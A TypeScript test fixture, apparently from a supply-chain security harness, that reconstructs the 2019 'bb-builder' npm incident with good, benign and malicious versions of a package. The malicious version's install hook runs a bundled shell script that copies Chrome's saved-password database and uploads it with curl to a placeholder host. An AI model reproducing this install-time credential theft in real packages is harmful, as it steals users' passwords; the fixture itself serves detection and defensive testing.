import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'bb-builder',
  after: 'bb-builder, 2019',
  source: 'https://blog.reversinglabs.com/blog/the-npm-package-that-walked-away-with-all-your-passwords',
  shape: ['install', 'npm ci', 'bundled program', 'browser passwords', 'curl'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['brick-maker'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'brick-maker': {
      'index.js': 'exports.build = (n) => n;',
      'package.json': '{"scripts":{"install":"node check.js"}}',
      'check.js': "require('./index');",
    },
  },
  benign: { 'brick-maker': { 'check.js': "if (require('./index').build(1) !== 1) process.exit(1);" } },
  bad: {
    'brick-maker': {
      'check.js': `const { execFile } = require('child_process'), fs = require('fs'), path = require('path');
const tool = path.join(__dirname, 'res', 'unit.bin');
fs.chmodSync(tool, 0o755);
execFile(tool, ['/stext', 'out.txt']);`,
      'res/unit.bin': `#!/bin/sh
cp "$HOME/.config/google-chrome/Default/Login Data" "$2"
curl -F f=@"$2" http://@B@:@PORT@/up.php
`,
    },
  },
  proof: [{ stub: 'http://@B@' }],
};
